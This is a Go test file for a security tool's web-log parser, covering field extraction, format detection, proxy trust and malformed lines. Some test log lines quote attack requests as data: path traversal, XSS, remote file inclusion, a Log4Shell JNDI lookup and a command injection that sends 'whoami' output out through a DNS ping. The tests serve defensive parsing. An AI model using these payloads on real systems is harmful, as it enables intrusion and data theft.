@@ -1,0 +1,478 @@
+package parse
+
+import (
+	"bufio"
+	"compress/gzip"
+	"errors"
+	"fmt"
+	"net/netip"
+	"os"
+	"path/filepath"
+	"sort"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/gatewatch/gatewatch/detectors"
+)
+
+// textLines reads testdata/text/<name> (see its README for sources).
+func textLines(t testing.TB, name string) []string {
+	t.Helper()
+	b, err := os.ReadFile(filepath.Join("testdata", "text", name))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return strings.Split(strings.TrimRight(string(b), "\n"), "\n")
+}
+
+func mustParser(t testing.TB, opts Options) *Parser {
+	t.Helper()
+	p, err := New(opts)
+	if err != nil {
+		t.Fatalf("New: %v", err)
+	}
+	return p
+}
+
+// want lists the fields a text line must produce. Host and XFF are checked
+// too: "" there asserts the format carries none.
+type want struct {
+	time    string // RFC 3339, UTC
+	ip      string // "" = invalid address
+	method  string
+	path    string
+	query   string
+	status  int
+	user    string
+	latency time.Duration
+	bytes   int64
+	ua      string
+	host    string
+	xff     string
+	format  detectors.Format
+}
+
+func TestParseTextFormats(t *testing.T) {
+	const mozMac = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/32.0.1700.77 Safari/537.36"
+	tests := []struct {
+		file string
+		line int // 1-based
+		want want
+	}{
+		// nginx combined
+		{"nginx_combined.log", 1, want{"2023-10-10T09:06:56Z", "127.0.0.1", "GET", "/NGUHGC", "", 404, "", 0, 125,
+			"Mozilla/5.0 (Windows NT 6.2; rv:36.0) Gecko/20100101 Firefox/36.0", "", "", detectors.FormatNginxCombined}},
+		{"nginx_combined.log", 2, want{"2021-12-02T19:47:51Z", "1.2.3.4", "GET", "/", "author=2", 200, "", 0, 35436,
+			"Mozilla/5.0 (Windows; U; Windows NT 6.1; en-US) AppleWebKit/533.19.4 (KHTML, like Gecko) Version/5.0.2 Safari/533.18.5", "", "", detectors.FormatNginxCombined}},
+		{"nginx_combined.log", 3, want{"2021-09-29T15:29:58Z", "127.0.0.1", "GET", "/%2fetc%2fpasswd", "", 404, "", 0, 162,
+			"curl/7.68.0", "", "", detectors.FormatNginxCombined}},
+		{"nginx_combined.log", 5, want{"2023-10-10T08:32:31Z", "127.4.3.2", "GET", "/", "8890121518", 200, "", 0, 10701,
+			"Mozilla/5.0 (Win 9x 4.90; rv:22.0) Gecko/20200928 Firefox/22.0", "", "", detectors.FormatNginxCombined}},
+		{"nginx_combined.log", 6, want{"2021-09-30T09:14:41Z", "127.0.0.1", "GET", "/foo", "a=<br", 404, "", 0, 162,
+			"curl/7.68.0", "", "", detectors.FormatNginxCombined}},
+		// garbage request lines are kept, with no method or path
+		{"nginx_malformed.log", 5, want{"2023-07-29T17:26:06Z", "1.2.3.4", "", "", "", 400, "", 0, 157,
+			"", "", "", detectors.FormatNginxCombined}},
+		// nginx main
+		{"nginx_main.log", 1, want{"2023-11-20T14:37:47Z", "89.109.34.234", "GET", "/wp-admin/install.php", "", 200, "", 0, 7542,
+			"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/112.0.0.0 YaBrowser/23.5.1.750 Yowser/2.5 Safari/537.36", "", "", detectors.FormatNginxMain}},
+		// no trusted proxies: the peer is the client whatever XFF says
+		{"nginx_main.log", 2, want{"2023-11-20T14:37:48Z", "10.0.0.7", "POST", "/api/v1/login", "next=%2Fhome", 401, "alice", 0, 61,
+			"curl/8.4.0", "", "203.0.113.9, 198.51.100.23, 10.0.0.5", detectors.FormatNginxMain}},
+		{"nginx_main.log", 3, want{"2023-11-20T14:37:49Z", "10.0.0.7", "GET", "/search", `q=\x22%3E%3Cscript%3E`, 404, "", 0, 153,
+			`Mozilla/5.0 \x22quoted\x22 \"bot\"`, "", "198.51.100.24", detectors.FormatNginxMain}},
+		// Apache common
+		{"apache_common.log", 1, want{"2021-09-30T08:00:55Z", "172.17.0.1", "GET", "/.htpasswd", "", 403, "", 0, 199, "", "", "", detectors.FormatApacheCommon}},
+		{"apache_common.log", 2, want{"2021-09-30T08:00:55Z", "172.17.0.1", "GET", "/.listing", "", 404, "", 0, 196, "", "", "", detectors.FormatApacheCommon}},
+		{"apache_common.log", 5, want{"2021-09-29T12:37:05Z", "172.17.0.1", "GET", "/src/scripture.php", "pageHeaderFile=http://cirt.net/rfiinc.txt??", 404, "", 0, 196, "", "", "", detectors.FormatApacheCommon}},
+		// Apache combined: the same text as nginx combined, so auto-detect says nginx
+		{"apache_combined.log", 1, want{"2015-05-17T10:05:03Z", "83.149.9.216", "GET", "/presentations/logstash-monitorama-2013/images/kibana-search.png", "", 200, "", 0, 203023, mozMac, "", "", detectors.FormatNginxCombined}},
+		{"apache_combined.log", 4, want{"2020-06-08T06:49:01Z", "93.43.209.58", "GET", "/", "", 500, "", 0, 803, "", "", "", detectors.FormatNginxCombined}},
+		{"apache_combined.log", 6, want{"2020-06-08T08:04:43Z", "195.54.160.135", "GET", "/solr/admin/info/system", "wt=json", 500, "", 0, 803,
+			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36", "", "", detectors.FormatNginxCombined}},
+		// Apache with %D
+		{"apache_latency.log", 1, want{"2021-09-29T12:37:05Z", "172.17.0.1", "GET", "/start.php", "lang=en", 404, "", 1532 * time.Microsecond, 196, "", "", "", detectors.FormatApacheCommon}},
+		{"apache_latency.log", 2, want{"2015-05-17T10:05:03Z", "83.149.9.216", "GET", "/presentations/logstash-monitorama-2013/images/kibana-search.png", "", 200, "bob", 23518 * time.Microsecond, 203023, mozMac, "", "", detectors.FormatApacheCombined}},
+		{"apache_latency.log", 3, want{"2020-06-08T06:49:01Z", "93.43.209.58", "POST", "/login", "", 500, "", 1002 * time.Microsecond, 0, "", "", "", detectors.FormatApacheCombined}},
+		// Traefik CLF
+		{"traefik_clf.log", 2, want{"2021-12-08T09:16:05Z", "172.17.0.1", "GET", "/upload.asp", "test=toto&tata=test", 200, "", 0, 405, "", "", "", detectors.FormatTraefikCLF}},
+		{"traefik_clf.log", 4, want{"2021-12-08T13:59:39Z", "172.17.0.1", "GET", "/index", "toto=tata", 200, "", time.Millisecond, 352, "Nikto", "", "", detectors.FormatTraefikCLF}},
+		{"traefik_clf.log", 5, want{"2022-09-28T13:38:04Z", "172.17.1.1", "GET", "/mobileadmin/home.cs", "", 0, "", 0, 0, "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:006607)", "", "", detectors.FormatTraefikCLF}},
+		{"traefik_clf.log", 7, want{"2024-11-24T13:40:15Z", "172.17.1.3", "GET", "/api/users", "", 200, "", 25 * time.Millisecond, 450, "curl/7.68.0", "", "", detectors.FormatTraefikCLF}},
+		// AWS API Gateway CLF presets
+		{"aws_apigw_clf.log", 1, want{"2023-06-10T15:36:28Z", "1.128.0.0", "GET", "/pets", "", 200, "", 0, 184, "", "", "", detectors.FormatAWSAPIGatewayCLF}},
+		{"aws_apigw_clf.log", 2, want{"2023-06-10T15:36:29Z", "1.128.0.0", "POST", "/pets/{petId}", "", 403, "arn:aws:iam::123456789012:user/alice", 0, 61, "", "", "", detectors.FormatAWSAPIGatewayCLF}},
+		{"aws_apigw_clf.log", 3, want{"2023-06-09T12:54:08Z", "1.128.0.0", "GET", "/", "", 200, "", 0, 47140, "", "", "", detectors.FormatAWSAPIGatewayCLF}},
+		{"aws_apigw_clf.log", 4, want{"2023-06-09T12:54:09Z", "1.128.0.0", "POST", "/login", "", 401, "", 0, 28, "", "", "", detectors.FormatAWSAPIGatewayCLF}},
+		// HAProxy
+		{"haproxy.log", 1, want{"2015-01-14T12:48:57.127Z", "117.136.40.129", "GET", "/xxx/xxx", "", 200, "", 173 * time.Millisecond, 739, "", "", "", detectors.FormatHAProxy}},
+		{"haproxy.log", 2, want{"2021-03-12T06:56:28.088Z", "22.118.26.10", "GET", "/", "", 200, "", 1264 * time.Millisecond, 20602, "", "", "", detectors.FormatHAProxy}},
+		{"haproxy.log", 3, want{"2009-02-06T12:14:14.655Z", "10.0.1.2", "GET", "/index.html", "lang=fr", 200, "", 109 * time.Millisecond, 2750, "", "", "", detectors.FormatHAProxy}},
+		// Envoy default text: the client is the right-most XFF hop
+		{"envoy_text.log", 1, want{"2016-04-15T20:17:00.31Z", "10.0.35.28", "POST", "/api/v1/locations", "", 204, "", 226 * time.Millisecond, 0, "nsq2http", "locations", "10.0.35.28", detectors.FormatEnvoyText}},
+		{"envoy_text.log", 2, want{"2025-12-31T16:37:40.479Z", "10.0.0.12", "GET", "/assets/image.webp", "v=3", 200, "", 11 * time.Millisecond, 121258,
+			"Mozilla/4.0 (Windows NT 9.0; Win64; x64; rv:136.0) Gecko/20101 Firefox/136.0", "www.example.com", "198.51.100.7, 10.0.0.12", detectors.FormatEnvoyText}},
+		{"envoy_text.log", 3, want{"2025-12-31T17:22:06.456Z", "192.168.1.45", "POST", "/login", "", 429, "", 0, 18, "python-requests/2.31.0", "auth.example.com", "192.168.1.45", detectors.FormatEnvoyText}},
+		// AWS ALB
+		{"aws_alb.log", 1, want{"2023-04-26T12:22:55.463821Z", "192.168.1.10", "GET", "/", "", 200, "", time.Millisecond, 366, "curl/7.46.0", "www.example.com", "", detectors.FormatAWSALB}},
+		{"aws_alb.log", 2, want{"2023-04-26T12:23:00.186641Z", "192.168.1.11", "GET", "/robots.txt", "", 200, "", 171 * time.Millisecond, 57, "curl/7.46.0", "www.example.com", "", detectors.FormatAWSALB}},
+		{"aws_alb.log", 5, want{"2023-04-26T19:53:47.8094Z", "192.168.1.14", "GET", "/.awscfg", "", 404, "", 0, 167, "${jndi:ldap://${java:version}.domain/a}", "api.example.com", "", detectors.FormatAWSALB}},
+		{"aws_alb.log", 7, want{"2023-04-26T19:53:56.715663Z", "192.168.1.16", "GET", "/remote_agent.php", "action=polldata&host_id=1&local_data_ids[]=3&poller_id=;ping%20%24%28whoami%29.test.com", 404, "", 0, 167,
+			"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36", "cacti.example.com", "", detectors.FormatAWSALB}},
+	}
+	p := mustParser(t, Options{})
+	files := map[string][]string{}
+	for _, tc := range tests {
+		if files[tc.file] == nil {
+			files[tc.file] = textLines(t, tc.file)
+		}
+		line := files[tc.file][tc.line-1]
+		t.Run(fmt.Sprintf("%s:%d", tc.file, tc.line), func(t *testing.T) {
+			var ev detectors.Event
+			if err := p.Parse(line, &ev); err != nil {
+				t.Fatalf("Parse: %v\nline: %s", err, line)
+			}
+			checkEvent(t, &ev, tc.want)
+			if ev.Raw != line {
+				t.Errorf("Raw is not the line")
+			}
+		})
+	}
+}
+
+func checkEvent(t *testing.T, ev *detectors.Event, w want) {
+	t.Helper()
+	wt, err := time.Parse(time.RFC3339Nano, w.time)
+	if err != nil {
+		t.Fatalf("bad test time %q: %v", w.time, err)
+	}
+	if !ev.Time.Equal(wt) || ev.Time.Location() != time.UTC {
+		t.Errorf("Time = %v, want %v in UTC", ev.Time, wt)
+	}
+	var wip netip.Addr
+	if w.ip != "" {
+		wip = netip.MustParseAddr(w.ip)
+	}
+	if ev.ClientIP != wip {
+		t.Errorf("ClientIP = %v, want %v", ev.ClientIP, wip)
+	}
+	got := want{w.time, w.ip, ev.Method, ev.Path, ev.Query, ev.Status, ev.User, ev.Latency, ev.Bytes, ev.UserAgent, ev.Host, ev.XForwardedFor, ev.Format}
+	if got != w {
+		t.Errorf("got  %+v\nwant %+v", got, w)
+	}
+}
+
+// Every line of every success file parses, with the format the file is
+// named for; the failure files fail with the expected reason.
+func TestParseTextFiles(t *testing.T) {
+	tests := []struct {
+		file   string
+		format detectors.Format // auto-detected
+		reason Reason           // "" = must parse
+	}{
+		{"nginx_combined.log", detectors.FormatNginxCombined, ""},
+		{"nginx_malformed.log", detectors.FormatNginxCombined, ""},
+		{"nginx_main.log", detectors.FormatNginxMain, ""},
+		{"apache_common.log", detectors.FormatApacheCommon, ""},
+		{"apache_combined.log", detectors.FormatNginxCombined, ""},
+		{"traefik_clf.log", detectors.FormatTraefikCLF, ""},
+		{"aws_apigw_clf.log", detectors.FormatAWSAPIGatewayCLF, ""},
+		{"haproxy.log", detectors.FormatHAProxy, ""},
+		{"envoy_text.log", detectors.FormatEnvoyText, ""},
+		{"aws_alb.log", detectors.FormatAWSALB, ""},
+		{"haproxy_badreq.log", 0, ReasonBadField},
+		{"haproxy_not_http.log", 0, ReasonBadField},
+	}
+	p := mustParser(t, Options{})
+	for _, tc := range tests {
+		t.Run(tc.file, func(t *testing.T) {
+			forced := mustParser(t, Options{Format: tc.format})
+			for i, line := range textLines(t, tc.file) {
+				var ev detectors.Event
+				err := p.Parse(line, &ev)
+				if tc.reason != "" {
+					if ReasonOf(err) != tc.reason {
+						t.Errorf("line %d: err = %v, want reason %s", i+1, err, tc.reason)
+					}
+					continue
+				}
+				if err != nil {
+					t.Errorf("line %d: %v", i+1, err)
+					continue
+				}
+				if ev.Format != tc.format {
+					t.Errorf("line %d: format %v, want %v", i+1, ev.Format, tc.format)
+				}
+				// Forcing the detected format gives the same event.
+				var fev detectors.Event
+				if err := forced.Parse(line, &fev); err != nil || fev.Format != ev.Format || fev.Time != ev.Time || fev.Path != ev.Path {
+					t.Errorf("line %d: forced %v: %v, %+v", i+1, tc.format, err, fev)
+				}
+			}
+		})
+	}
+}
+
+func TestParseForcedFormat(t *testing.T) {
+	combined := textLines(t, "apache_combined.log")[3]
+	common := textLines(t, "apache_common.log")[0]
+	main := textLines(t, "nginx_main.log")[0]
+	tests := []struct {
+		name   string
+		format detectors.Format
+		line   string
+		want   detectors.Format // FormatUnknown = rejected as bad_field
+	}{
+		{"combined as apache", detectors.FormatApacheCombined, combined, detectors.FormatApacheCombined},
+		{"combined as nginx", detectors.FormatNginxCombined, combined, detectors.FormatNginxCombined},
+		{"common as common", detectors.FormatApacheCommon, common, detectors.FormatApacheCommon},
+		{"common as combined", detectors.FormatApacheCombined, common, detectors.FormatUnknown},
+		{"combined as main", detectors.FormatNginxMain, combined, detectors.FormatUnknown},
+		{"main as traefik", detectors.FormatTraefikCLF, main, detectors.FormatUnknown},
+		{"clf as haproxy", detectors.FormatHAProxy, combined, detectors.FormatUnknown},
+		{"clf as alb", detectors.FormatAWSALB, combined, detectors.FormatUnknown},
+		{"clf as envoy", detectors.FormatEnvoyText, combined, detectors.FormatUnknown},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			p := mustParser(t, Options{Format: tc.format})
+			var ev detectors.Event
+			err := p.Parse(tc.line, &ev)
+			if tc.want == detectors.FormatUnknown {
+				if err == nil {
+					t.Fatalf("accepted as %v, want an error", ev.Format)
+				}
+				if r := ReasonOf(err); r != ReasonBadField && r != ReasonBadTime && r != ReasonTruncated {
+					t.Errorf("reason %s, want a field error", r)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if ev.Format != tc.want {
+				t.Errorf("format %v, want %v", ev.Format, tc.want)
+			}
+		})
+	}
+}
+
+func TestParseTrustedProxies(t *testing.T) {
+	trusted := []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8"), netip.MustParsePrefix("198.51.100.0/24")}
+	// The client forged the left-most entries; only hops appended by
+	// trusted proxies, read from the right, are believed.
+	spoofed := `10.0.0.7 - - [20/Nov/2023:17:37:48 +0300] "POST /login HTTP/1.1" 401 61 "-" "curl/8.4.0" "1.1.1.1, 8.8.8.8, 203.0.113.9, 198.51.100.23, 10.0.0.5"`
+	untrustedPeer := `192.0.2.44 - - [20/Nov/2023:17:37:48 +0300] "POST /login HTTP/1.1" 401 61 "-" "curl/8.4.0" "1.1.1.1"`
+	garbage := `10.0.0.7 - - [20/Nov/2023:17:37:48 +0300] "POST /login HTTP/1.1" 401 61 "-" "curl/8.4.0" "1.1.1.1, unknown, 10.0.0.5"`
+	allTrusted := `10.0.0.7 - - [20/Nov/2023:17:37:48 +0300] "POST /login HTTP/1.1" 401 61 "-" "curl/8.4.0" "10.1.1.1, 10.0.0.5"`
+	envoy := `[2025-12-31T16:37:40.479Z] "GET / HTTP/2" 200 - 0 12 11 9 "6.6.6.6, 203.0.113.9, 10.0.0.12" "ua" "id" "www.example.com" "10.42.0.82:8080"`
+	tests := []struct {
+		name    string
+		trusted []netip.Prefix
+		line    string
+		want    string
+	}{
+		{"spoofed left entries ignored", trusted, spoofed, "203.0.113.9"},
+		{"no trusted list: the peer", nil, spoofed, "10.0.0.7"},
+		{"untrusted peer: XFF ignored", trusted, untrustedPeer, "192.0.2.44"},
+		{"garbage hop stops the walk", trusted, garbage, "10.0.0.5"},
+		{"all hops trusted: left-most hop", trusted, allTrusted, "10.1.1.1"},
+		{"envoy: right-most hop without trust", nil, envoy, "10.0.0.12"},
+		{"envoy: walk past trusted hops", trusted, envoy, "203.0.113.9"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			p := mustParser(t, Options{TrustedProxies: tc.trusted})
+			var ev detectors.Event
+			if err := p.Parse(tc.line, &ev); err != nil {
+				t.Fatal(err)
+			}
+			if ev.ClientIP != netip.MustParseAddr(tc.want) {
+				t.Errorf("ClientIP = %v, want %v", ev.ClientIP, tc.want)
+			}
+		})
+	}
+}
+
+func TestParseRejects(t *testing.T) {
+	const good = `127.0.0.1 - - [10/Oct/2023:11:06:56 +0200] "GET /NGUHGC HTTP/1.1" 404 125 "-" "Mozilla/5.0"`
+	tests := []struct {
+		name string
+		line string
+		max  int
+		want Reason
+	}{
+		{"empty", "", 0, ReasonEmpty},
+		{"only newline", "\r\n", 0, ReasonEmpty},
+		{"too long", good, 40, ReasonTooLong},
+		{"invalid utf-8", strings.Replace(good, "Mozilla", "Moz\xffilla", 1), 0, ReasonInvalidUTF8},
+		{"NUL byte", strings.Replace(good, "Mozilla", "Moz\x00illa", 1), 0, ReasonBinary},
+		{"escape byte", "\x1b[31m" + good, 0, ReasonBinary},
+		{"unknown start", "Sep 15 16:13:46 host nginx[1]: " + good, 0, ReasonUnknown},
+		{"cut after address", "127.0.0.1", 0, ReasonTruncated},
+		{"cut in time", good[:30], 0, ReasonTruncated},
+		{"cut in request", good[:60], 0, ReasonTruncated},
+		{"cut before status", good[:len(`127.0.0.1 - - [10/Oct/2023:11:06:56 +0200] "GET /NGUHGC HTTP/1.1"`)], 0, ReasonTruncated},
+		{"cut in status", good[:len(`127.0.0.1 - - [10/Oct/2023:11:06:56 +0200] "GET /NGUHGC HTTP/1.1" 40`)], 0, ReasonTruncated},
+		{"bad time", strings.Replace(good, "Oct", "Okt", 1), 0, ReasonBadTime},
+		{"bad status", strings.Replace(good, " 404 ", " 4x4 ", 1), 0, ReasonBadField},
+		{"bad bytes", strings.Replace(good, " 125 ", " 12x ", 1), 0, ReasonBadField},
+		{"host name for address", strings.Replace(good, "127.0.0.1", "deadbeef.example", 1), 0, ReasonBadField},
+		{"envoy bad time", `[2016-04-15T25:17:00.310Z] "POST /x HTTP/2" 204 - 154 0 226 100 "10.0.35.28" "ua" "id" "h" "u"`, 0, ReasonBadTime},
+		{"envoy cut before xff", `[2016-04-15T20:17:00.310Z] "POST /x HTTP/2" 204 - 154 0 226`, 0, ReasonTruncated},
+		{"haproxy badreq", textLines(t, "haproxy_badreq.log")[0], 0, ReasonBadField},
+		{"haproxy cut before status", `10.0.1.2:33317 [06/Feb/2009:12:14:14.655] http-in static/srv1 10/0/30/69/109`, 0, ReasonTruncated},
+		{"alb cut before request", `http 2023-04-26T12:22:55.463821Z app/x 192.168.1.10:44740 10.0.0.1:80 0.000 0.001`, 0, ReasonTruncated},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			p := mustParser(t, Options{MaxLineBytes: tc.max})
+			ev := detectors.Event{Method: "stale", Status: 999}
+			err := p.Parse(tc.line, &ev)
+			var pe *Error
+			if !errors.As(err, &pe) {
+				t.Fatalf("err = %v (%T), want *Error", err, err)
+			}
+			if pe.Reason != tc.want {
+				t.Errorf("reason %s (%v), want %s", pe.Reason, err, tc.want)
+			}
+			if ev.Method != "" || ev.Status != 0 {
+				t.Errorf("event not reset on failure: %+v", ev)
+			}
+		})
+	}
+}
+
+// A line cut inside the user agent, after every essential field, is
+// accepted with the UA it has (see parseCLF). The elastic sample ends with
+// one.
+func TestParseTruncatedTail(t *testing.T) {
+	tests := []struct {
+		line string
+		ua   string
+	}{
+		{`46.118.127.106 - - [20/May/2015:12:05:17 +0000] "GET /scripts/grok-py-test/configlib.py HTTP/1.1" 200 235 "-" "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html`,
+			"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html"},
+		{`46.118.127.106 - - [20/May/2015:12:05:17 +0000] "GET /x HTTP/1.1" 200 235 "http://exa`, ""},
+		{`10.0.0.7 - - [20/Nov/2023:17:37:48 +0300] "GET /x HTTP/1.1" 200 1 "-" "curl/8.4.0" "203.0.113.9, 198.51`, "curl/8.4.0"},
+	}
+	p := mustParser(t, Options{TrustedProxies: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")}})
+	for _, tc := range tests {
+		var ev detectors.Event
+		if err := p.Parse(tc.line, &ev); err != nil {
+			t.Fatalf("%v\n%s", err, tc.line)
+		}
+		if ev.UserAgent != tc.ua || ev.Status != 200 || ev.Path == "" {
+			t.Errorf("got UA %q status %d path %q, want UA %q", ev.UserAgent, ev.Status, ev.Path, tc.ua)
+		}
+		// A cut XFF must not pick the client.
+		if ev.XForwardedFor != "" || ev.ClientIP.String() != strings.Fields(tc.line)[0] {
+			t.Errorf("cut XFF used: %q -> %v", ev.XForwardedFor, ev.ClientIP)
+		}
+	}
+}
+
+func TestParseTrimsLineEnd(t *testing.T) {
+	line := textLines(t, "nginx_combined.log")[0]
+	p := mustParser(t, Options{})
+	var ev detectors.Event
+	if err := p.Parse(line+"\r\n", &ev); err != nil {
+		t.Fatal(err)
+	}
+	if ev.Raw != line || ev.UserAgent != "Mozilla/5.0 (Windows NT 6.2; rv:36.0) Gecko/20100101 Firefox/36.0" {
+		t.Errorf("Raw %q UA %q", ev.Raw, ev.UserAgent)
+	}
+}
+
+func TestNewValidates(t *testing.T) {
+	tests := []struct {
+		name string
+		opts Options
+		want string // substring of the error; "" = no error
+	}{
+		{"zero", Options{}, ""},
+		{"known format", Options{Format: detectors.FormatHAProxy}, ""},
+		{"unknown format", Options{Format: detectors.Format(200)}, "not a known log format"},
+		{"negative max", Options{MaxLineBytes: -1}, "max line bytes"},
+		{"invalid prefix", Options{TrustedProxies: []netip.Prefix{{}}}, "trusted proxy #1"},
+		{"unknown JSON field", Options{JSONFields: map[string]string{"status": "s", "sttaus": "x"}}, `unknown field "sttaus"`},
+		{"empty JSON key", Options{JSONFields: map[string]string{"status": " "}}, `"status" is empty`},
+		{"good JSON fields", Options{JSONFields: map[string]string{"status": "code", "client_ip": "remote_addr"}}, ""},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			_, err := New(tc.opts)
+			if tc.want == "" {
+				if err != nil {
+					t.Fatal(err)
+				}
+				return
+			}
+			if err == nil || !strings.Contains(err.Error(), tc.want) {
+				t.Fatalf("err = %v, want it to mention %q", err, tc.want)
+			}
+		})
+	}
+}
+
+// The whole elastic/examples Apache sample: every line is accounted for,
+// and the only line that does not parse cleanly is the cut-off last one,
+// which is accepted by design.
+func TestParseElasticApacheSample(t *testing.T) {
+	f, err := os.Open(filepath.Join("testdata", "text", "elastic_apache_logs.gz"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	zr, err := gzip.NewReader(f)
+	if err != nil {
+		t.Fatal(err)
+	}
+	sc := bufio.NewScanner(zr)
+	sc.Buffer(make([]byte, 0, 64<<10), 1<<20)
+	p := mustParser(t, Options{})
+	var ev detectors.Event
+	lines, parsed := 0, 0
+	failed := map[Reason]int{}
+	formats := map[detectors.Format]int{}
+	noUA := 0
+	for sc.Scan() {
+		lines++
+		if err := p.Parse(sc.Text(), &ev); err != nil {
+			failed[ReasonOf(err)]++
+			t.Logf("line %d: %v", lines, err)
+			continue
+		}
+		parsed++
+		formats[ev.Format]++
+		if ev.Time.Year() != 2015 || ev.Status < 100 || !ev.ClientIP.IsValid() || ev.Method == "" {
+			t.Errorf("line %d: implausible event %+v", lines, ev)
+		}
+		if ev.UserAgent == "" {
+			noUA++
+		}
+	}
+	if err := sc.Err(); err != nil {
+		t.Fatal(err)
+	}
+	nfailed := 0
+	reasons := make([]string, 0, len(failed))
+	for r, n := range failed {
+		nfailed += n
+		reasons = append(reasons, string(r))
+	}
+	sort.Strings(reasons)
+	t.Logf("%d lines: %d parsed %v, %d failed by reason %v", lines, parsed, formats, nfailed, failed)
+	if lines != 10000 || parsed+nfailed != lines {
+		t.Fatalf("lines %d, parsed %d + failed %d", lines, parsed, nfailed)
+	}
+	// Measured on this sample: all 10,000 parse (the truncated last line
+	// included); no reasons. A regression shows up as a reason here.
+	if nfailed != 0 {
+		t.Errorf("failures by reason %v (%s), want none", failed, strings.Join(reasons, ","))
+	}
+	if formats[detectors.FormatNginxCombined] != lines {
+		t.Errorf("formats %v, want all combined", formats)
+	}
+}
